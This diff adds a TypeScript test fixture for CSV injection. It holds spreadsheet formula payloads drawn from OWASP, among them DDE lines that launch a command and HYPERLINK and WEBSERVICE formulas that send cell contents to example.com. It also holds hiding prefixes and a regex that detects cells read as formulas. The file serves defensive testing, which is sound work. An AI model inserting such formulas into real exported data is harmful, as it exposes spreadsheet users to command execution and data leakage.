@@ -1,0 +1,41 @@
+/** For tests of CSV: texts that a spreadsheet might run. */
+
+/** What spreadsheets have been known to run (OWASP, CSV Injection), before and behind what may hide it. */
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1;1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://example.com?"&A1;"here")',
+  '=WEBSERVICE("https://example.com/"&B2)',
+  '=DDE("cmd";"/C calc";"x")',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+];
+const BEFORE = [
+  '',
+  ' ',
+  '  ',
+  '\t',
+  '\r',
+  '\n',
+  '\u00a0',
+  '\ufeff',
+  '"',
+  '""',
+  'x;',
+  'x,',
+  'x\n',
+  'x";',
+  'x","',
+  'x\t',
+  'x\r\n',
+  ';;',
+];
+export const FORMULA_PAYLOADS = BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula));
+
+/** A cell that a spreadsheet takes for a formula, also where it separates cells by another character. */
+export const BEGINS_FORMULA = /(^|[,;\n])[\s"]*[=+\-@＝＋－＠]/;
